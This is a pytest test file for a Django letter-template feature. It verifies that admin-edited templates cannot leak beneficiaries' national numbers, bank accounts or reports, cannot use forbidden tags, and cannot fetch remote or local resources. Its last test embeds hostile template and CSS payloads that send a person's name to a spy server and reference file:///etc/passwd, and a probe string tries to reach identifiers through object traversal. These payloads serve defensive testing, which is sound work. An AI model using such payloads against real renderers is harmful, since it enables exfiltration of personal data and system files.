"""An administrator's letter template prints only what its letter may say: plain values prepared per kind of
letter, a restricted engine, and templates that reach further refused when saved in the admin."""

import datetime
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils.safestring import SafeString

from access.roles import Role
from files.models import Report
from letters import rendering, services
from letters.defaults import TEMPLATES
from letters.models import Kind, LetterTemplate
from people.identifiers import format_iban, format_national_number
from people.models import BankAccount
from tests.factories import UserFactory
from tests.files.conftest import client_for, page_text
from tests.letters.conftest import letter_text
from tests.printouts.spy_server import spy_server

pytestmark = pytest.mark.django_db

IBAN = "BE68539007547034"
REPORT_TITLE = "Situation de dettes confidentielle"

# Everything a model object would open to a template: the person's identifiers, bank accounts, reports…
PROBES = """<p>Sonde {{ person.full_name }} :
{{ person.national_number }} {{ person.niss }} {{ person.get_national_number_display }}
{{ file.beneficiary.national_number }} {{ file.beneficiary }}
{% for account in file.beneficiary.bank_accounts.all %}{{ account.iban }}{% endfor %}
{% for account in person.bank_accounts.all %}{{ account }}{% endfor %}
{{ file.reports.all }} {% for report in file.reports.all %}{{ report.title }} {{ report.body }}{% endfor %}
{{ request.file.beneficiary.national_number }} {{ proposal.file.beneficiary.national_number }}
{{ decision.proposal.file.beneficiary.bank_accounts.all.0.iban }} {{ team.memberships.all }}
{{ proposal.request.file.reports.all.0.title }} {{ address.person.national_number }}</p>"""


@pytest.fixture
def secrets(decision, worker):
    """The synthetic person's national number, IBAN and a report title: none may reach a letter."""
    file = decision.proposal.file
    person = file.beneficiary
    BankAccount.objects.create(
        person=person, iban=IBAN, holder=person.full_name, valid_from=datetime.date(2020, 1, 1)
    )
    Report.objects.create(
        file=file, kind=Report.Kind.SOCIAL_REPORT, title=REPORT_TITLE, body="<p>Texte</p>", author=worker
    )
    number = person.national_number
    return [number, format_national_number(number), IBAN, format_iban(IBAN), REPORT_TITLE]


def plain_only(value, path="context"):
    """Fails on anything but text, numbers, dates and lists and dicts of them (no object, no callable)."""
    if isinstance(value, dict):
        for key, item in value.items():
            assert isinstance(key, str), path
            plain_only(item, f"{path}.{key}")
    elif isinstance(value, list):
        for index, item in enumerate(value):
            plain_only(item, f"{path}.{index}")
    else:
        assert type(value) in (str, SafeString, bool, int, Decimal, datetime.date), (path, type(value))


def shape(value):
    return {key: shape(item) for key, item in value.items()} if isinstance(value, dict) else None


def contexts(decision):
    proposal = decision.proposal
    file, request = proposal.file, proposal.request
    return {
        Kind.ACKNOWLEDGEMENT: rendering.context_for(Kind.ACKNOWLEDGEMENT, file=file, request=request),
        Kind.NOTIFICATION: rendering.context_for(
            Kind.NOTIFICATION, file=file, request=request, proposal=proposal, decision=decision
        ),
        Kind.HEARING: rendering.context_for(Kind.HEARING, file=file, request=request, proposal=proposal),
        Kind.PIIS: rendering.context_for(Kind.PIIS, file=file, request=request, proposal=proposal),
    }


def test_each_kind_of_letter_receives_plain_values_exactly_as_declared(decision, secrets):
    for kind, context in contexts(decision).items():
        plain_only(context, kind)
        assert shape(context) == shape(rendering.VARIABLES[kind]), kind
        assert not any(secret in repr(context) for secret in secrets), kind


def test_an_admin_template_reaching_for_identifiers_prints_none_of_them(decision, secrets, people, worker):
    """Saved straight in the database (as an older template, or past the admin): rendering alone must hold."""
    proposal = decision.proposal
    file = proposal.file
    for kind, source in (
        (Kind.ACKNOWLEDGEMENT, {"request": proposal.request}),
        (Kind.NOTIFICATION, {"decision": decision}),
        (Kind.HEARING, {"proposal": proposal}),
    ):
        LetterTemplate.objects.filter(kind=kind).update(html=PROBES)
        actor = people["legal"] if kind == Kind.NOTIFICATION else worker
        text = letter_text(services.generate(actor=actor, kind=kind, file=file, **source))
        assert f"Sonde {file.beneficiary.full_name}" in text  # the template was rendered
        for secret in secrets:
            assert secret not in text and secret.replace(" ", "") not in text.replace(" ", ""), (kind, secret)


def test_the_shipped_templates_still_write_every_line_of_their_letters(decision, people, worker):
    proposal = decision.proposal
    file, person = proposal.file, proposal.file.beneficiary
    common = [
        file.reference,
        person.full_name,
        "Rue de Nimy 12",
        "7000 Mons",
        file.team.name,
        worker.get_full_name(),
        f"Le {datetime.date.today():%d/%m/%Y}",
    ]
    ack = letter_text(
        services.generate(actor=worker, kind=Kind.ACKNOWLEDGEMENT, file=file, request=proposal.request)
    )
    day = f"{proposal.request.requested_on:%d/%m/%Y}"
    aid = proposal.request.get_aid_display()
    for line in [*common, f"demande de {aid} du {day}", f"introduite le {day}"]:
        assert line in ack, line
    for kind in (Kind.HEARING, Kind.PIIS):
        text = letter_text(services.generate(actor=worker, kind=kind, file=file, proposal=proposal))
        for line in [*common, proposal.aid_type.label]:
            assert line in text, (kind, line)
    notification = letter_text(
        services.generate(actor=people["legal"], kind=Kind.NOTIFICATION, file=file, decision=decision)
    )
    for line in [file.reference, person.full_name, "500,00 €", "tribunal du travail", "Rue de Nimy 12"]:
        assert line in notification, line


def test_the_shipped_templates_pass_the_admin_s_checks():
    for kind, html in TEMPLATES.items():
        assert rendering.problems(kind, html) == [], kind


@pytest.fixture
def admin_client(db):
    return client_for(UserFactory(role=Role.ADMIN.value))


@pytest.mark.parametrize(
    ("html", "message"),
    [
        ("{{ person.national_number }}", "Variable inconnue pour ce type de lettre : « person.national"),
        ("{{ person.niss }}", "« person.niss »"),
        ("{% for a in file.beneficiary.bank_accounts.all %}{{ a }}{% endfor %}", "« file.beneficiary"),
        ("{% if file.reports %}x{% endif %}", "« file.reports »"),
        ("{{ team.name|default:person.bank_accounts }}", "« person.bank_accounts »"),
        ("{% with n=person.national_number %}{{ n }}{% endwith %}", "« person.national_number »"),
        ("{{ decision_due }}", "« decision_due »"),  # the notification's, not the hearing's
        ("{% load static %}", "La balise {% load %} n'est pas permise dans un modèle de lettre"),
        ("{% include 'letters/page.html' %}", "La balise {% include %} n'est pas permise"),
        ("{% extends 'letters/page.html' %}", "La balise {% extends %} n'est pas permise"),
        ("{% url 'letters:register' %}", "La balise {% url %} n'est pas permise"),
        ("{% static 'css/app.css' %}", "La balise {% static %} n'est pas permise"),
        ("{% debug %}", "La balise {% debug %} n'est pas permise"),
        ("{% csrf_token %}", "La balise {% csrf_token %} n'est pas permise"),
        ("{{ team.name|inconnu }}", "Le filtre « inconnu » n'existe pas."),
        ("{% if %}", "Le modèle contient une erreur"),
    ],
)
def test_the_admin_refuses_a_template_that_reaches_further_in_french(admin_client, html, message):
    template = LetterTemplate.objects.get(kind=Kind.HEARING)
    url = reverse("admin:letters_lettertemplate_change", args=[template.pk])
    typed = f"<p>Bonjour {{{{ person.full_name }}}}</p>{html}"
    response = admin_client.post(url, {"html": typed, "css": ""})
    assert response.status_code == 200
    assert message in page_text(response)
    assert typed in response.content.decode().replace("&#x27;", "'").replace("&quot;", '"').replace(
        "&lt;", "<"
    ).replace("&gt;", ">")  # nothing typed is lost
    template.refresh_from_db()
    assert template.html == TEMPLATES[Kind.HEARING]


def test_the_admin_saves_a_template_that_uses_its_variables_loops_and_filters(admin_client):
    template = LetterTemplate.objects.get(kind=Kind.ACKNOWLEDGEMENT)
    html = (
        "{% for line in address_lines %}{{ line|upper }}{% if not forloop.last %}<br>{% endif %}{% endfor %}"
        "{% with due=decision_due %}{{ due|date:'d/m/Y' }}{% endwith %}"
        "{{ request.requested_on|date:'d/m/Y' }}"
        "{% now 'Y' as year %}{{ year }} {{ team.phone|default:'—' }} {{ address_lines.0 }}"
    )
    url = reverse("admin:letters_lettertemplate_change", args=[template.pk])
    page = page_text(admin_client.get(url))
    assert "Variables disponibles pour ce type de lettre" in page and "{{ decision_due }}" in page
    assert admin_client.post(url, {"html": html, "css": ""}).status_code == 302
    template.refresh_from_db()
    assert template.html == html


def test_a_letter_template_reaches_no_web_address_and_no_file(file, request_, worker):
    """Through the letter's own path: the template and its CSS, both edited in the admin."""
    with spy_server() as (base, requested):
        LetterTemplate.objects.filter(kind=Kind.ACKNOWLEDGEMENT).update(
            html=f'<p>Bonjour</p><img src="{base}/x.png?nom={{{{ person.full_name|urlencode }}}}">'
            '<link rel="attachment" href="file:///etc/passwd">',
            css=f"@import url({base}/style.css); body {{ background: url('{base}/fond.png'); }}",
        )
        letter = services.generate(actor=worker, kind=Kind.ACKNOWLEDGEMENT, file=file, request=request_)
    assert requested == []
    with letter.pdf.open("rb") as pdf:
        data = pdf.read()
    assert b"root:" not in data and "Bonjour" in letter_text(letter)
